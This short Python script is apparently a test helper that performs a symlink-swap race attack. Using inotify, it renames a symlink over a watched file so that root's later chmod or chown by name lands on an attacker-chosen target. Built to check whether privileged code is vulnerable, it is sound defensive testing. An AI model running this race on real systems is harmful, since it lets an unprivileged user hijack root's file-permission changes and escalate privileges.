#!/usr/bin/env python3
"""swap_link.py DIR NAME TARGET - the attack on a path root makes in a
directory this user may write: whenever a file appears in DIR (inotify),
rename a symlink to TARGET over DIR/NAME at once, so that a chmod or
chown root then makes by name follows it to TARGET.  Runs until killed;
prints "swapped N" after each swap (flushed), for the test to count."""

import ctypes
import os
import struct
import sys

IN_CREATE = 0x100
IN_MOVED_FROM = 0x40
IN_MOVED_TO = 0x80

directory, name, target = sys.argv[1:4]
path = os.path.join(directory, name)
link = os.path.join(directory, ".swap")
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, directory.encode(),
                                    IN_CREATE | IN_MOVED_FROM |
                                    IN_MOVED_TO) < 0:
    sys.exit("inotify: %s" % os.strerror(ctypes.get_errno()))


def arm():
    """the symlink, ready to be renamed in one system call"""
    try:
        os.unlink(link)
    except FileNotFoundError:
        pass
    os.symlink(target, link)


arm()
print("ready", flush=True)
ours = set()	# cookies of our own renames
swaps = 0
while True:
    buf = os.read(fd, 65536)
    trigger = False
    off = 0
    while off < len(buf):
        _, mask, cookie, size = struct.unpack_from("iIII", buf, off)
        ename = buf[off + 16:off + 16 + size].rstrip(b"\0").decode()
        off += 16 + size
        if mask & IN_MOVED_FROM and ename == ".swap":
            ours.add(cookie)
        elif mask & IN_MOVED_TO and cookie in ours:
            ours.discard(cookie)
        elif mask & (IN_CREATE | IN_MOVED_TO) and ename != ".swap":
            trigger = True
    if trigger:
        try:
            os.rename(link, path)
            swaps += 1
            print("swapped %d" % swaps, flush=True)
        except OSError:
            pass
        arm()
